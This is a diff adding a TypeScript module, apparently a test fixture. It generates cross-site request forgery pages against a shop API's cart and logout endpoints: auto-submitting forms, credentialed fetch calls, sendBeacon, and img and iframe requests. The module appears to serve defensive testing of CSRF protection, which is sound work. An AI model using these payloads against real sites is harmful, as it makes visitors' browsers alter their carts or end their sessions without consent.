@@ -1,0 +1,74 @@
+type Forgery = { name: string; page: (shop: string, wine: number) => string }
+
+export const field = (name: string, value: string) =>
+  `<input name='${name}' value='${value.replaceAll("'", '&#39;')}'>`
+export const form = (action: string, encoding: string, fields: string, method = 'POST') =>
+  `<form id=f method=${method} action="${action}" enctype="${encoding}">${fields}</form><script>f.submit()</script>`
+const script = (text: string) => `<script>${text}</script>`
+export const items = (wine: number) => `{"items":[{"idProduct":${wine},"qty":1}]`
+export const writes = ['POST', 'PUT', 'PATCH', 'DELETE']
+
+/** What a hostile page can make a browser send on behalf of whoever looks at it. */
+export const forgeries: Forgery[] = [
+  {
+    name: 'form',
+    page: (shop, wine) =>
+      form(
+        `${shop}/api/v1/cart/add`,
+        'application/x-www-form-urlencoded',
+        field('items[0][idProduct]', String(wine)),
+      ),
+  },
+  {
+    name: 'form as text',
+    page: (shop, wine) => form(`${shop}/api/v1/cart/add`, 'text/plain', field(`${items(wine)},"x":"`, '"}')),
+  },
+  {
+    name: 'multipart form',
+    page: (shop, wine) =>
+      form(`${shop}/api/v1/cart/add`, 'multipart/form-data', field('items', String(wine))),
+  },
+  {
+    name: 'form that overrides its method',
+    page: (shop) =>
+      form(
+        `${shop}/api/v1/cart/modify?_method=PUT`,
+        'application/x-www-form-urlencoded',
+        field('_method', 'PUT'),
+      ),
+  },
+  { name: 'form to log out', page: (shop) => form(`${shop}/api/v1/logout`, 'text/plain', field('a', 'b')) },
+  {
+    name: 'fetch without cors',
+    page: (shop, wine) =>
+      script(
+        `fetch('${shop}/api/v1/cart/add',{method:'POST',mode:'no-cors',credentials:'include',headers:{'content-type':'text/plain'},body:'${items(wine)}}'})`,
+      ),
+  },
+  {
+    name: 'fetch that asks first',
+    page: (shop, wine) =>
+      script(
+        `fetch('${shop}/api/v1/cart/add',{method:'POST',credentials:'include',headers:{'content-type':'application/json','x-business-type':'B2C'},body:'${items(wine)}}'}).catch(()=>0)`,
+      ),
+  },
+  {
+    name: 'fetch by every method',
+    page: (shop) =>
+      script(
+        `for (const method of ${JSON.stringify(writes)}) fetch('${shop}/api/v1/cart/delete-all',{method,credentials:'include'}).catch(()=>0)`,
+      ),
+  },
+  {
+    name: 'beacon',
+    page: (shop, wine) => script(`navigator.sendBeacon('${shop}/api/v1/cart/add','${items(wine)}}')`),
+  },
+  {
+    name: 'pictures',
+    page: (shop) =>
+      ['logout', 'cart/delete-all', 'cart/add', 'cart/modify?_method=PUT']
+        .map((path) => `<img src="${shop}/api/v1/${path}">`)
+        .join(''),
+  },
+  { name: 'frame', page: (shop) => `<iframe src="${shop}/api/v1/logout"></iframe>` },
+]
